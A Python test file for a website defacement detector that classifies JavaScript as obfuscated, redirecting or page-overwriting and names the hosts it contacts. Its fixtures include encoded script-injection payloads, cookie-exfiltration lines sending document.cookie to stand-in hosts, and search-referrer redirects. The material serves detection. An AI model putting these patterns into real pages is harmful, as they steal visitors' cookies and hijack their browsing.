import base64
import time

import pytest

from defacewatch.compare import scripts
from defacewatch.compare.scripts import OBFUSCATED, REDIRECTS, REWRITES, Jump

PAYLOAD = "document.write('<script src=https://x.example/a.js></script>')"
HEX = "".join(f"\\x{ord(letter):02x}" for letter in PAYLOAD)
BASE64 = base64.b64encode(PAYLOAD.encode()).decode()
CODES = ",".join(str(ord(letter)) for letter in PAYLOAD)
PERCENT = "".join(f"%{ord(letter):02x}" for letter in PAYLOAD)


@pytest.mark.parametrize(
    "text",
    [
        f'eval("{HEX}")',
        f'var a="{HEX}"; window["ev"+"al"](a)',
        f"eval(atob('{BASE64}'))",
        f"var run = window.atob('{BASE64}'); new Function(run)()",
        f"eval(String.fromCharCode({CODES}))",
        f"var n=[{CODES}],s='';for(var i in n)s+=String.fromCharCode(n[i]);document.write(s)",
        f"document.write(unescape('{PERCENT}'))",
        "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
        'var _0x4f2a=["a","b"];(function(_0x1b,_0x2c){while(--_0x2c)_0x1b.push(_0x1b[0])})(_0x4f2a,9)',
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]()",
    ],
)
def test_code_that_hides_itself_is_obfuscated(text: str) -> None:
    assert OBFUSCATED in scripts.read(text).doings


@pytest.mark.parametrize(
    "text",
    [
        "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js');",
        "(function(w,d,s,l,i){w[l]=w[l]||[];var j=d.createElement(s);j.async=true;"
        "j.src='https://www.googletagmanager.com/gtm.js?id='+i;d.head.appendChild(j)})(window,document,'script')",
        "!function(e){var t={};function n(r){return t[r]||(t[r]={})}n.g=Function('return this')()}([])",
        'var news={"title":"C\\u00f4ng b\\u1ed1 quy\\u1ebft \\u0111\\u1ecbnh","url":"\\u003ca\\u003e"};',
        "function utf8(s){return unescape(encodeURIComponent(s))}",
        "var s=[99,124,119,123,242];function c(x){return String.fromCharCode(x&255)}",
        f"var logo='data:image/png;base64,{'iVBORw0KGgo' * 40}';document.images[0].src=logo",
        "",
    ],
)
def test_ordinary_code_does_nothing_of_the_kind(text: str) -> None:
    assert scripts.read(text).doings == frozenset()


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("var s=document.createElement('script');s.src='https://x.example/a.js'", "x.example"),
        ("document.write('<scr'+'ipt src=\"//x.example/a.js\"></scr'+'ipt>')", "x.example"),
        ("document.write('<iframe src=https:\\/\\/x.example\\/a>')", "x.example"),
        ("importScripts('https://x.example/w.js')", "x.example"),
        ("fetch(`https://x.example/?c=${document.cookie}`)", "x.example"),
        ("new Image().src='//203.0.113.9/c.gif?'+document.cookie", "203.0.113.9"),
        ("navigator.sendBeacon('https://x.example/b',d)", "x.example"),
        ("var u='\\x68ttps://x.example/a.js',s=document.createElement('script');s.src=u", "x.example"),
        (f"eval(atob('{BASE64}'))", "x.example"),
    ],
)
def test_hosts_that_code_loads_from_or_sends_to_are_named(text: str, host: str) -> None:
    assert scripts.read(text).reaches == {host}


def test_addresses_in_comments_and_data_reach_nobody() -> None:
    text = "// see https://x.example/doc\nvar item={link:'https://y.example/'};" + " " * 999 + "fetch('/own')"
    assert scripts.read(text).reaches == frozenset()


@pytest.mark.parametrize(
    ("text", "jump"),
    [
        ("location.href='https://x.example/'", Jump("x.example", True, False)),
        ("top.location.replace('//x.example/')", Jump("x.example", True, False)),
        ("window['location']='https://x.example'", Jump("x.example", True, False)),
        ("var u='https://x.example/';setTimeout(function(){location=u},9)", Jump("x.example", True, False)),
        ("if(/google/.test(document.referrer))location='https://x.example/'", Jump("x.example", True, True)),
        ("f();" * 600 + "location.assign('https://x.example/')", Jump("x.example", False, False)),
    ],
)
def test_where_code_sends_visitors_and_how(text: str, jump: Jump) -> None:
    assert scripts.read(text).jumps == (jump,)


@pytest.mark.parametrize(
    "text", ["if(location.href=='https://x.example/')f()", "location.href='/vi/'", "location.hash='#a'"]
)
def test_staying_on_the_site_is_no_jump(text: str) -> None:
    assert scripts.read(text).jumps == ()


def test_sending_those_from_a_search_on_to_a_decoded_address_is_said() -> None:
    text = "if(document.referrer.indexOf('google')>0){location.href=atob(k)}"
    assert scripts.read(text).doings == {REDIRECTS}


@pytest.mark.parametrize(
    "text",
    [
        "document.body.innerHTML='<h1>x</h1>'",
        "document.documentElement.innerHTML = page",
        "document.getElementsByTagName('body')[0].innerHTML=x",
        "document.write('<html><body>x')",
        "$('body').html(x)",
        "document.title='x'",
    ],
)
def test_code_that_overwrites_the_page_is_said(text: str) -> None:
    assert scripts.read(text).doings == {REWRITES}


@pytest.mark.parametrize(
    "text",
    [
        "location=" * 25_000,
        "'" * 200_000,
        "'a'+" * 50_000,
        '"' + "A" * 199_000,
        "atob('" + "QUJD" * 50_000 + "')",
        "//a" * 70_000,
        "createElement('script')" * 9000,
        "fromCharCode(" + "65," * 60_000,
        "\\x41" * 50_000,
        "%41" * 66_000 + "unescape(",
        "location" + " " * 199_000,
        "//" + "a." * 100_000,
        '"' + '\\"' * 99_000 + "\n.reverse()",
        "'" + "\\'" * 99_000 + "\n.reverse()",
        '"' + "A" * 60 + '"' + '"' * 190_000 + ".reverse()",
    ],
    ids=range(15),
)
def test_a_hostile_script_takes_little_time(text: str) -> None:
    began = time.process_time()
    said = scripts.read(text)
    assert time.process_time() - began < 1.0
    assert len(said.reaches) <= scripts.HOSTS
    assert len(said.jumps) <= scripts.PLACES


HIDDEN = "document.body.appendChild(Object.assign(document.createElement('script'),{src:'https://x.example/a.js'}))"


@pytest.mark.parametrize(
    "code",
    [
        "var k=["
        + ",".join(str(ord(c)) for c in HIDDEN)
        + "],r='';for(n of k)r+=String['fromCharCode'](n);(0,eval)(r)",
        f"[]['filter']['constructor'](\"{HIDDEN[::-1]}\".split('').reverse().join(''))()",
        "new Function(window['at'+'ob']('" + base64.b64encode(HIDDEN.encode()).decode() + "'))()",
        "(" + "[]()!+" * 20 + ")",
    ],
    ids=["character codes", "backwards", "a name in two parts", "six signs"],
)
def test_code_that_is_spelled_in_another_way_is_obfuscated(code: str) -> None:
    assert scripts.obfuscated(code)


def test_what_a_decoded_script_reaches_is_read() -> None:
    codes = ",".join(str(ord(c)) for c in HIDDEN)
    assert scripts.read(f"eval(String.fromCharCode.apply(0, [{codes}]))").reaches == {"x.example"}
